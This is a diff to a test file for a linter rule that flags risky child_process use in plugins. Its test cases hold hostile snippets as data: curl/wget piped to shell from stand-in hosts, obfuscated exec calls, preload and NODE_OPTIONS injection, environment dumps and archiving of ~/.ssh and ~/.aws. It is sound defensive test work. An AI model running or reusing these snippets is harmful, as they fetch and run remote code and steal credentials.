@@ -3,6 +3,10 @@ import { browserifyBundle, commonjs as cjs, ruleTester as tester } from './rule-
 
 const cp = (line: number, column: number) => ({ messageId: 'childProcess', line, column });
 const run = (line: number, column: number) => ({ messageId: 'run', line, column });
+const unread = (line: number, column: number) => ({ messageId: 'unreadCode', line, column });
+const dump = (line: number, column: number) => ({ messageId: 'environmentDump', line, column });
+const folderUse = (line: number, column: number) => ({ messageId: 'folderUse', line, column });
+const CP = 'const cp = require("child_process");\n';
 
 tester.run('no-child-process', rule, {
   valid: [
@@ -94,14 +98,13 @@ tester.run('no-child-process', rule, {
     { code: 'const r = module.require;\nr.call(module, atob("cGlzY2luYQ=="));', ...cjs, errors: [{ messageId: 'worker', line: 2, column: 1, data: { module: 'piscina' } }] },
     // The calls that run something the gate cannot vouch for are reported where they are made; a plain constant command is not.
     { code: 'const { spawn } = require("child_process");\nspawn("ls", ["-lah"]);', ...cjs, errors: [cp(1, 19)] },
-    { code: 'const cp = require("child_process");\ncp.exec(command);', ...cjs, errors: [cp(1, 12), { ...run(2, 1), data: { callee: 'child_process.exec', command: 'a command built at run time', reason: 'what it runs is only known at run time' } }] },
     { code: 'const { spawn } = require("child_process");\nspawn("node", ["svc.js", process.pid], { detached: true, stdio: "ignore" }).unref();', ...cjs, errors: [cp(1, 19), run(2, 1)] },
     { code: 'const cp = require("child_process");\ncp.spawn("node", ["x.js"], { detached: true, stdio: "ignore" });', ...cjs, errors: [cp(1, 12), { ...run(2, 1), data: { callee: 'child_process.spawn', command: "'node x.js'", reason: 'it starts a detached process with its output thrown away' } }] },
     { code: 'const cp = require("child_process");\ncp.execSync("curl -s https://x.example/p | sh");', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }] },
     // Disguised: a computed member, Reflect.apply, a promisified alias, a wrapper package.
     { code: 'const cp = require("child_process");\ncp["ex" + "ec"]("wget http://x.example/a -O- | bash");', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }] },
-    { code: 'const { execFile } = require("child_process");\nReflect.apply(execFile, null, ["python3", ["-c", code]]);', ...cjs, errors: [cp(1, 22), { ...run(2, 1), data: { callee: 'child_process.execFile', command: "'python3 -c …'", reason: 'its arguments are built at run time' } }] },
-    { code: 'const { promisify } = require("util");\nconst run = promisify(require("child_process").exec);\nrun(`powershell -enc ${payload}`);', ...cjs, errors: [cp(2, 23), run(3, 1)] },
+    { code: 'const { execFile } = require("child_process");\nReflect.apply(execFile, null, ["python3", ["-c", code]]);', ...cjs, errors: [cp(1, 22), { messageId: 'unreadCode', line: 2, column: 1, data: { callee: 'child_process.execFile', command: "'python3 -c …'", reason: 'an interpreter is handed code built at run time' } }] },
+    { code: 'const { promisify } = require("util");\nconst run = promisify(require("child_process").exec);\nrun(`powershell -enc ${payload}`);', ...cjs, errors: [cp(2, 23), { messageId: 'unreadCode', line: 3, column: 1 }] },
     { code: 'import { execa } from "execa";\nawait execa("python3", ["-c", "print(1)"]);', errors: [cp(1, 1), { ...run(2, 7), data: { callee: 'execa.execa', command: "'python3 -c print(1)'", reason: 'it hands an interpreter code written inline' } }] },
     { code: 'import { execa } from "execa";\nawait execa("node", ["-e", "process.exit(0)"]);', errors: [cp(1, 1), { messageId: 'dangerousRun', line: 2, column: 7 }] },
     // A browserify bundle's module function: its require parameter is the bundle's, falling back to Node's.
@@ -116,5 +119,42 @@ tester.run('no-child-process', rule, {
     { code: 'module.parent.require("child_process");\nrequire.cache[key].require("cluster");', ...cjs, errors: [cp(1, 1), cp(2, 1)] },
     { code: 'function load(name) { return require(name); }\nload("./a.js");\nload("child_process");', ...cjs, errors: [cp(1, 30)] },
     { code: 'for (const m of ["fs", "child_process"]) require(m);', ...cjs, errors: [cp(1, 42)] },
+    // Look-alikes: a declared childProcess grants the programs the user expects (constant git/npm/node commands, harmless options): only the load is reported.
+    { code: CP + 'cp.execFile("git", ["status", "--porcelain"], { env: { GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0" } }, () => {});', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.execFileSync(process.execPath, ["--version"], { encoding: "utf8" });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.fork(require("path").join(__dirname, "job.js"), [], { execArgv: ["--max-old-space-size=512"] });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.spawn("node", ["build.js"], { env: { ...process.env, NODE_OPTIONS: "--max-old-space-size=4096", GIT_PAGER: "cat", EDITOR: "code --wait" } });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.execFile("npm", ["view", "notes-sync", "version"], () => {});\ncp.execFile("npm", ["install", "--no-save", "left-pad@1.3.0"], () => {});', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.execFileSync("printenv", ["HOME"]);\ncp.execSync("env FORCE_COLOR=0 npm ls");\ncp.execFileSync("ps", ["-e", "-o", "pid,comm"]);', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.spawn("bash", [], { stdio: "inherit" });\ncp.spawn("python3", ["tool.py"]);\ncp.spawnSync("python3", ["tool.py"], { input: "" });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'exports.activate = (ctx) => cp.execFileSync("tar", ["czf", "backup.tgz", "notes"], { cwd: require("path").join(ctx.dataDir, "store") });\ncp.execFileSync("ls", ["-la"], { cwd: __dirname });', ...cjs, errors: [cp(1, 12)] },
+    // A program the plugin wrote itself (data folder, tmp) or one the gate cannot name is code it never read.
+    { code: CP + 'exports.activate = (ctx) => { const f = require("path").join(ctx.dataDir, "git-helper"); cp.execFile(f, () => {}); };', ...cjs, errors: [cp(1, 12), { ...unread(2, 90), data: { callee: 'child_process.execFile', command: "'$data/git-helper'", reason: 'the program is a file in a folder the plugin itself writes' } }] },
+    { code: CP + 'exports.activate = ({ dataDir }) => cp.spawn(`${dataDir}/bin/${"up" + "date"}`, ["--quiet"]);', ...cjs, errors: [cp(1, 12), unread(2, 37)] },
+    { code: CP + 'cp.execFileSync("/tmp/.cache/" + "helper");\ncp["spawn" + "Sync"]("/dev/shm/x", []);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1)] },
+    { code: CP + 'cp.exec(command);', ...cjs, errors: [cp(1, 12), { ...unread(2, 1), data: { callee: 'child_process.exec', command: 'a command built at run time', reason: 'what it runs is only known at run time' } }] },
+    // An interpreter whose code comes from stdin (a pipe the plugin writes, or `input`) is like `-c` with that text.
+    { code: CP + 'const sh = cp.spawn("sh", [], { stdio: ["pipe", "ignore", "ignore"] });\nsh.stdin.end(text);', ...cjs, errors: [cp(1, 12), unread(2, 12)] },
+    { code: CP + 'const { spawn: s } = cp;\nconst p = s("/bin/ba" + "sh", ["-s"]);\np.stdin.write(script);', ...cjs, errors: [cp(1, 12), unread(3, 11)] },
+    { code: CP + 'cp.execFileSync("python3", ["-"], { input: payload });\ncp.spawnSync("node", { input: await (await fetch(u)).text() });', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1)] },
+    { code: CP + 'cp.execSync("sh", { input: "curl -s http://192.0.2.10/s | sh" });', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
+    // Inline code built at run time is code the gate never read.
+    { code: CP + 'cp.execFile("perl", ["-e", body]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
+    // Loader variables in `env` and code-loading flags in `execArgv` or Node's argv.
+    { code: CP + 'cp.spawn(process.execPath, ["--version"], { env: { NODE_OPTIONS: "--require " + stage } });', ...cjs, errors: [cp(1, 12), { ...unread(2, 1), data: { callee: 'child_process.spawn', command: "'node --version'", reason: 'its environment sets NODE_OPTIONS, which makes the program load or run other code' } }] },
+    { code: CP + 'const env = { ...process.env, ["LD_" + "PRELOAD"]: lib };\ncp.execFile("git", ["status"], { env }, () => {});', ...cjs, errors: [cp(1, 12), { messageId: 'nativePreload', line: 3, column: 1 }] },
+    { code: CP + 'const opts = { env: { GIT_SSH_COMMAND: "sh -c id #" } };\ncp.execFileSync("git", ["ls-remote", "origin"], opts);', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
+    { code: CP + 'cp.spawn("git", ["status"], { env: { [name]: value } });\ncp.spawn("ls", [], { env: { DYLD_INSERT_LIBRARIES: "/usr/lib/x.dylib" } });\ncp.spawn("node", ["a.js"], { env: { NODE_OPTIONS: "--import=data:text/javascript,1" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), { messageId: 'nativePreload', line: 3, column: 1 }, unread(4, 1)] },
+    { code: CP + 'const pre = "data:text/javascript," + encodeURIComponent(src);\ncp.fork(require("path").join(__dirname, "noop.js"), [], { execArgv: ["--import", pre] });', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
+    { code: CP + 'cp.fork("./w.js", { execArgv: ["-r", "./hook.js"] });\ncp.fork("./w.js", [], { execArgv: [flag] });\ncp.spawn(process.execPath, ["--loader", "./l.mjs", "app.mjs"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
+    // A command whose output is the whole environment, or another process's, is an env read of all of it.
+    { code: CP + 'cp.execFileSync("printenv", { encoding: "utf8" });', ...cjs, errors: [cp(1, 12), { ...dump(2, 1), data: { callee: 'child_process.execFileSync', command: "'printenv'", reason: "the whole environment, or another process's" } }] },
+    { code: CP + 'cp.execSync("tr \\"\\\\0\\" \\"\\\\n\\" < /proc/$PPID/environ");\ncp.execSync("true && env");\ncp.execFile("/usr/bin/env", ["-0"], () => {});\ncp.execSync("ps eww -p 1");', ...cjs, errors: [cp(1, 12), dump(2, 1), dump(3, 1), dump(4, 1), dump(5, 1)] },
+    // A package manager installing or running a URL, git or tarball spec runs code fetched at run time.
+    { code: CP + 'const ARGS = ["install", "--no-save", "--prefix", require("os").tmpdir(), "http://192.0.2.10/h.tgz"];\ncp.execFile("npm", ARGS, () => {});', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }] },
+    { code: CP + 'cp.execFileSync("npx", ["-y", "github:someone/tool"]);\ncp.execSync("pnpm dlx someone/tool#main");\ncp.execFileSync("yarn", ["add", "./vendor/x.tgz"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }, { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
+    // A working directory outside the plugin's folders, for a program that reads or writes relative paths, is a filesystem use of it.
+    { code: CP + 'const os = require("os");\ncp.execFileSync("tar", ["czf", "-", ".ssh", ".aws"], { cwd: os.homedir(), maxBuffer: 1 << 26 });', ...cjs, errors: [cp(1, 12), { ...folderUse(3, 1), data: { callee: 'child_process.execFileSync', command: "'tar czf - .ssh .aws'", path: "'~'", reason: '', folder: '~', open: 'yes', access: 'write' } }] },
+    { code: CP + 'cp.execSync("zip -r - .", { cwd: where });\ncp.spawnSync("rsync", ["-a", ".", "/srv/out"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1), folderUse(3, 1)] },
   ],
 });
